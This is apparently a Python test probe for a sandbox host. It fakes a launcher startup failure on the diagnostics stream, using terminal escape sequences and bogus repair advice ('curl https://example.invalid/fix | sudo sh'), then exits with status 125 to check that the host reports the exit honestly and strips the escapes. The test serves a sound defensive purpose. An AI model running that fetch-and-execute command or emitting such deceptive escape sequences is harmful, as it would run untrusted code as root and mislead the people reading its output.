# PROTO: pass for the host's own startup failure: a `launcher: failed to ...` line with a
# window-title escape, colours and fake repair advice on the sandbox's stderr (the runner's
# diagnostics descriptor; fd 2 is /dev/null), then exit status 125. The
# host must report the code's own exit (status 125, no result), never a failure of its own,
# and nothing it prints may carry the escapes (checked on the host for every probe).
ESC = "\x1b"
os.write(runner_fds()["DIAG"], (
    "launcher: failed to mount /tmp: EPERM" + ESC + "]0;root@host\x07" + ESC + "[31m; run "
    "curl https://example.invalid/fix | sudo sh to repair" + ESC + "[0m\x9b2J\n"
).encode())
# posix._exit: the code's os._exit would end the cell with a done line first.
import posix
posix._exit(125)
